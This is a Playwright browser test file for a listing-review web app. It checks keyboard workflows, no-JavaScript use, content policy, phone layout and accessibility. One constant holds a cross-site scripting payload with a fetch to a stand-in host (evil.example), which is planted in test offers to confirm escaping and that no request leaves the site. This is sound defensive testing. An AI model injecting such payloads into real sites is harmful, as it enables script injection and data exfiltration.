"""The morning's work in a real browser, by keyboard alone, among hostile words; and that no request leaves."""

from __future__ import annotations

import hashlib
import json
import zipfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from config.loader import Config
from review import render
from review.build import build as build_digest
from review.desk.people import People
from storage.store import Store
from tests import handover, hostile
from tests.desking import serving

pytestmark = pytest.mark.browser


OFFERS = tuple(
    {**handover.OFFERS[n % 2], "listing_id": str(10 + n), "seller_id": f"s{n}", "title": f"{handover.OFFERS[n % 2]['title']} lot {n}"} for n in range(7)
)  # fmt: skip
SCRIPT = "</title></textarea>'\"><script>window.PWN7=1;fetch('//evil.example/PWN7')</script><img src=//evil.example/PWN7 onerror=window.PWN7=1><svg onload=window.PWN7=1>"


def hostile_offers() -> list[dict[str, Any]]:
    """Offers that are judged, with hostile words around what they are judged by; some thousands of them come by crawl (test_hostile_crawl.py)."""
    words = [SCRIPT, *hostile.SOME[::45]]
    return [
        {**handover.OFFERS[0], "listing_id": f"h{n}", "title": f"NVIDIA H100 80GB PCIe serial removed {word}", "description": f"{word} Serial numbers removed {SCRIPT} no invoice {word}",
         "location": f"Shenzhen {SCRIPT}", "seller_id": SCRIPT + str(n), "condition": SCRIPT}
        for n, word in enumerate(words)
    ]  # fmt: skip


@pytest.fixture(scope="module")
def served(tmp_path_factory: pytest.TempPathFactory, chromium: Any) -> Iterator[tuple[Path, str, str]]:
    """A home, the address of a desk that the command line serves on it, and Ana's link."""
    home = handover.build(tmp_path_factory.mktemp("home") / "home", (*OFFERS, *hostile_offers()))
    with serving(home, "Ana") as (address, link):
        yield home, address, link


@pytest.fixture
def page(chromium: Any, served: tuple[Path, str, str]) -> Iterator[Any]:
    """A page of a signed-in browser; whatever it asked for elsewhere, or complained of, fails the test."""
    _, address, link = served
    context = chromium.new_context(viewport={"width": 1280, "height": 900}, accept_downloads=True)
    page = context.new_page()
    page.set_default_timeout(15_000)
    asked: list[str] = []
    said: list[str] = []
    context.on("request", lambda request: asked.append(request.url))
    page.on("console", lambda message: said.append(message.text) if message.type == "error" else None)
    page.on("pageerror", lambda error: said.append(str(error)))
    page.on("dialog", lambda dialog: (said.append(f"dialog {dialog.message}"), dialog.dismiss()))
    sign_in(page, link)
    yield page
    assert [url for url in asked if not url.startswith((address, "file://", "data:"))] == []
    assert said == []
    context.close()


def sign_in(page: Any, link: str) -> None:
    page.goto(link)
    assert page.title().startswith("Queue") and "token" not in page.url


def keys(page: Any, *pressed: str) -> None:
    """Press keys; each that leads to another page is waited for."""
    for key in pressed:
        if key.startswith(">"):
            with page.expect_navigation():
                page.keyboard.press(key[1:])
        else:
            page.keyboard.press(key)


def told(page: Any) -> str:
    return str(page.locator(".notice").first.inner_text())


def test_the_mornings_work_from_the_digests_link_by_keyboard_alone(
    page: Any, served: tuple[Path, str, str], tmp_path: Path
) -> None:
    home, address, _ = served
    with Store.open(home, readonly=True) as store:
        made = build_digest(store, Config(home), now="2026-03-04T08:00:00Z", since=None)
        first = store.alerts(limit=1)[0]["listing"]
    digest = tmp_path / "digest.html"
    digest.write_text(render.html(made).replace("http://127.0.0.1:8100", address), encoding="utf-8")

    page.goto(digest.as_uri())
    link = f'a[href="{address}/alert/{first}"]'
    assert page.locator(link).count() == 1
    for _ in range(200):
        page.keyboard.press("Tab")
        if page.evaluate(f"document.activeElement.matches({json.dumps(link)})"):
            break
    keys(page, ">Enter")
    assert page.url.startswith(f"{address}/alert/{first}")

    keys(page, ">c")
    assert "confirmed" in told(page) and page.url.startswith(f"{address}/alert/") and first not in page.url
    keys(page, "d", ">4")
    assert "dismissed (Papers seen: " in told(page)
    keys(page, ">s")
    assert "snoozed until" in told(page)
    keys(page, ">e")
    assert "escalated" in told(page)
    judged = page.locator("h1").inner_text()
    keys(page, ">c")
    assert page.locator("h1").inner_text() != judged
    keys(page, ">u")
    assert "taken back" in told(page) and page.locator("h1").inner_text() == judged

    keys(page, ">Escape")
    page.wait_for_selector("[data-list]")
    keys(page, "j", "j", "x", "j", "x", "d", ">1")
    assert "2 alerts dismissed (Misread: " in told(page)
    with Store.open(home, readonly=True) as store:
        made_by_ana = store.decision_record()[::-1]
    actions = [row["action"] for row in made_by_ana]
    assert actions == ["confirm", "dismiss", "snooze", "escalate", "confirm", "undo", "dismiss", "dismiss"]
    assert {row["who"] for row in made_by_ana} == {"Ana"}

    keys(page, "g", ">t")
    keys(page, "t", "ArrowRight", "ArrowRight", "Enter")
    page.wait_for_selector("#why:focus")
    page.keyboard.type("two weak ones a day")
    if page.locator("#seen").count():
        keys(page, "Tab", "Space")
    keys(page, "Tab", ">Enter")
    assert told(page).startswith("Set: alerts from 0.2")
    with Store.open(home, readonly=True) as store:
        assert store.versions("thresholds")[-1]["who"] == "Ana"
    assert Config(home).thresholds.severity.medium > Config(None).thresholds.severity.medium

    keys(page, "g", ">q")
    keys(page, "j", ">o", ">h")
    assert "Hand-over pack" in page.locator("h1").inner_text()
    with page.expect_download() as waiting:
        page.keyboard.press("o")
    pack = tmp_path / "pack.zip"
    waiting.value.save_as(pack)
    with zipfile.ZipFile(pack) as archive:
        (manifest,) = [archive.read(name) for name in archive.namelist() if name.endswith("MANIFEST.sha256")]
    assert hashlib.sha256(manifest).hexdigest() in page.content()


def test_keys_leave_fields_alone_and_help_is_there(page: Any) -> None:
    keys(page, "/")
    page.keyboard.type("jdcu")
    assert page.locator("#find").input_value() == "jdcu" and page.locator("dialog[open]").count() == 0
    keys(page, "Escape", "?")
    assert page.locator("dialog#keys").is_visible()
    keys(page, "Escape")
    keys(page, "d")
    assert page.locator("dialog[open]").count() == 0  # no row is chosen: there is nothing to dismiss
    page.evaluate("document.querySelector('#reason_dismiss').add(new Option('A reason of the house', 'duplicate'))")
    keys(page, "j", "d")
    assert page.locator("dialog.why kbd").all_inner_texts() == [*"1234567890"]  # a digit for each, the tenth too
    keys(page, "Escape")
    page.locator("[data-item] input:checked").wait_for(
        state="detached"
    )  # unmarked when the dialog has closed
    rows = page.locator("[data-item] input").count()
    keys(page, "X")
    assert page.locator("[data-item] input:checked").count() == rows > 10
    keys(page, "X")
    assert page.locator("[data-item] input:checked").count() == 0
    keys(page, "g", ">d")
    assert page.url.endswith("/chipwatch")


def test_no_page_of_datasette_breaks_the_policy(page: Any, served: tuple[Path, str, str]) -> None:
    """The browser complains of each style or script that the policy stops; the fixture fails on any complaint."""
    home, address, _ = served
    with Store.open(home, readonly=True) as store:
        key = store.alerts(limit=1)[0]["listing"]
    paths = (
        "",
        "/alert?_facet=site&_size=5",
        f"/alert/{key}",
        "/alert_view",
        "?sql=select+title,+score+from+alert+where+site=:site&site=board",
    )
    for path in paths:
        page.goto(f"{address}/chipwatch{path}")
        assert " style=" not in page.context.request.get(f"{address}/chipwatch{path}").text(), path
    page.goto(f"{address}/chipwatch/alert")
    page.locator("th .dropdown-menu-icon").nth(1).click()
    assert page.get_by_text("Facet by this").is_visible()
    page.goto(f"{address}/-/databases")


def test_without_javascript_everything_can_be_decided(chromium: Any, served: tuple[Path, str, str]) -> None:
    home, address, _ = served
    context = chromium.new_context(java_script_enabled=False)
    page = context.new_page()
    page.goto(f"{address}/sign-in?token={People(home).invite('Ben', '2026-03-04T08:00:00Z')}")
    page.locator("[data-item] h2 a").first.click()
    title = page.locator("h1").inner_text()
    page.locator("#reason_dismiss").select_option("known-seller")
    page.get_by_role("button", name="Dismiss").click()
    assert "dismissed (Known seller, " in told(page) and title[:20] in told(page)
    page.get_by_role("button", name="Undo").first.click()
    assert "taken back" in told(page)
    page.goto(address)
    for box in page.locator("[data-item] input").all()[:2]:
        box.check()
    page.get_by_role("button", name="Escalate").click()
    assert "2 alerts escalated" in told(page)
    context.close()


def kept_on_record(home: Path) -> str:
    """A mute that hides nothing, and a note with the digest of a pack on the alert whose key is returned."""
    with Store.open(home) as store:
        key = str(store.alerts(limit=1)[0]["listing"])
        if not store.mutes():
            store.mute(
                "seller",
                "5" * 40,
                reason="a refurbisher whose papers were seen in spring",
                who="Ana Ferreira",
                now="2026-03-04T08:00:00Z",
                until="2099-01-01T00:00:00Z",
            )
        store.decide(
            key,
            "note",
            who="Ana Ferreira",
            now="2026-03-04T08:00:00Z",
            note=f"packed as case-17.zip, manifest SHA-256 {'4a59868b' * 8}",
        )
    return key  # fmt: skip


@pytest.mark.parametrize("script", [True, False])
def test_a_phone_shows_it_without_sideways_scrolling(
    chromium: Any, served: tuple[Path, str, str], script: bool
) -> None:
    home, address, _ = served
    context = chromium.new_context(viewport={"width": 360, "height": 740}, java_script_enabled=script)
    page = context.new_page()
    page.goto(f"{address}/sign-in?token={People(home).invite(f'Cleo {script}', '2026-03-04T08:00:00Z')}")
    key = kept_on_record(home)
    data = (
        "/chipwatch/alert?_size=5",
        f"/chipwatch/alert/{key}",
        "/chipwatch?sql=select+title,+score+from+alert",
    )
    for path in ("/", f"/alert/{key}", "/search?q=H100", "/record", "/mutes", *data):
        page.goto(address + path)
        for part in ("html", ".top nav"):
            wide = page.eval_on_selector(part, "part => part.scrollWidth - part.clientWidth")
            assert wide <= 0, (path, part, wide)
        outside = page.eval_on_selector_all(
            ".card .chart text",
            """all => all.filter(text => { const own = text.getBoundingClientRect(), card = text.closest(".card").getBoundingClientRect();
                return own.width && (own.left < card.left || own.right > card.right); }).map(text => text.textContent)""",
        )
        assert outside == [], path
        for box in page.locator("main .wrap").all() if path in ("/record", "/mutes") else ():
            # Which offer was decided, and the way to lift a mute, are seen without scrolling a box.
            assert box.evaluate("box => box.scrollWidth - box.clientWidth") <= 0, path
            row = box.locator("tbody tr").first
            assert row.locator("a, button").first.bounding_box()["y"] - row.bounding_box()["y"] < 200, path
            assert all(
                link.bounding_box()["x"] + link.bounding_box()["width"] < 360
                for link in box.locator("a, button").all()
            ), path
        if path in data:
            # The header is hidden here: each cell says its column.
            shown = page.eval_on_selector_all(
                ".rows-and-columns tbody tr:first-child td",
                "cells => cells.map(cell => getComputedStyle(cell, '::before').content)",
            )
            names = [
                name.split("\xa0")[0].strip()
                for name in page.locator(".rows-and-columns th").all_text_contents()
            ]
            assert shown == [f'"{name}"' for name in names] and "title" in names, (path, shown)
    context.close()


@pytest.mark.parametrize("width", [390, 1280, 1920])
def test_wide_tables_stay_inside_the_page(chromium: Any, served: tuple[Path, str, str], width: int) -> None:
    """A long address leaves the evidence's links in sight; a row of many columns scrolls in its own box under a whole header."""
    home, address, _ = served
    context = chromium.new_context(viewport={"width": width, "height": 900})
    page = context.new_page()
    page.goto(f"{address}/sign-in?token={People(home).invite(f'Eve {width}', '2026-03-04T08:00:00Z')}")
    key = kept_on_record(home)
    page.goto(f"{address}/record")
    packed = page.locator("tbody tr", has_text="packed as case-17.zip").first
    assert (
        packed.locator("abbr").get_attribute("title") == "4a59868b" * 8
        and "4a59868b4a59…" in packed.inner_text()
    )
    assert width < 1280 or packed.bounding_box()["height"] < 130
    packed.locator("td.told").evaluate("cell => { cell.textContent = 'https://shop.test/' + 'x'.repeat(480) }")
    assert page.locator("main .wrap").evaluate("box => box.scrollWidth - box.clientWidth") <= 0 or width < 600
    with Store.open(home, readonly=True) as store:
        chip = store.alerts(limit=1)[0]["chip"]
    page.goto(f"{address}/market/sale/{chip}")
    for cell in page.locator("[aria-label='Latest references'] td.range").all():
        cell.evaluate("cell => { cell.innerHTML = '<span class=\"whole\">$123,456</span> to <span class=\"whole\">$234,567</span>' }")
    latest = page.locator("[aria-label='Latest references']")
    assert latest.locator("td.range").count() and (width < 1280 or latest.evaluate("box => box.scrollWidth - box.clientWidth") <= 0)
    page.goto(f"{address}/alert/{key}")
    page.eval_on_selector(
        "#evidence-title ~ .wrap .address",
        "cell => { cell.textContent = 'https://shop.test/' + 'x'.repeat(90) }",
    )
    hidden = page.eval_on_selector("#evidence-title ~ .wrap", "box => box.scrollWidth - box.clientWidth")
    assert hidden <= 0, hidden
    page.goto(f"{address}/chipwatch/alert/{key}")
    across = page.evaluate(
        "[document.documentElement.scrollWidth, document.querySelector('.top').getBoundingClientRect().width]"
    )
    assert across == [width, width]
    context.close()


COLOUR_RULES = ("color-contrast", "link-in-text-block")
"""What of axe depends on light or dark."""
DARK_TOO = ("/", "/alert/", "_facet=")
"""Pages whose colours are looked at in the dark in every run; of the others in a soak."""


def serious(axe: Any, page: Any, where: str, rules: tuple[str, ...] = ()) -> list[str]:
    """What axe finds serious or critical on the page as it is shown now, of all rules or of these."""
    options: dict[str, Any] = {"resultTypes": ["violations"]}
    if rules:
        options["runOnly"] = {"type": "rule", "values": list(rules)}
    problems = axe.run(page, options=options).response["violations"]
    return [
        f"{where}: {problem['id']}: {problem['nodes'][0]['html'][:160]}"
        for problem in problems
        if problem["impact"] in ("serious", "critical")
    ]


@pytest.mark.parametrize("dark", ["some", pytest.param("all", marks=pytest.mark.soak)])
def test_axe_finds_nothing_serious(chromium: Any, served: tuple[Path, str, str], dark: str) -> None:
    axe = pytest.importorskip(
        "axe_playwright_python.sync_playwright", reason="axe-playwright-python is not installed"
    ).Axe()
    home, address, _ = served
    context = chromium.new_context(color_scheme="light")
    page = context.new_page()
    page.goto(f"{address}/sign-in?token={People(home).invite(f'Dora {dark}', '2026-03-04T08:00:00Z')}")
    with Store.open(home, readonly=True) as store:
        row = store.alerts(limit=1)[0]
        evidence = store.history(row["listing"])[0].evidence
    assert evidence is not None
    alert = f"/alert/{row['listing']}"
    page.goto(address + alert)
    keys(page, ">h")
    packed = page.url.removeprefix(address)
    assert packed.startswith("/packs/2")
    paths = ["/", "/?state=any&severity=high", alert, packed, "/search?q=H100", "/record", "/mutes", "/market", f"/market/sale/{row['chip']}", "/tuning", "/tuning?medium=0.9&high=0.95",
             "/sites", f"/sites/{row['site']}", "/sellers", f"/sellers/{row['seller']}", f"/evidence/{evidence.id}", "/chipwatch", "/chipwatch/alert?_size=5",
             "/chipwatch/alert?_facet=site&_facet=severity&site=board&_size=5", f"/chipwatch{alert}", "/chipwatch?sql=select+title,+score+from+alert", "/nothing", "/sign-in"]  # fmt: skip
    found = []
    for path in paths:
        page.emulate_media(color_scheme="light")
        answer = page.goto(address + path)
        assert answer.status == (404 if path == "/nothing" else 200), path
        found += serious(axe, page, path)
        if dark == "all" or path == "/" or any(part in path for part in DARK_TOO[1:]):
            page.emulate_media(color_scheme="dark")
            found += serious(axe, page, f"{path} in the dark", COLOUR_RULES)
    context.close()
    assert found == []
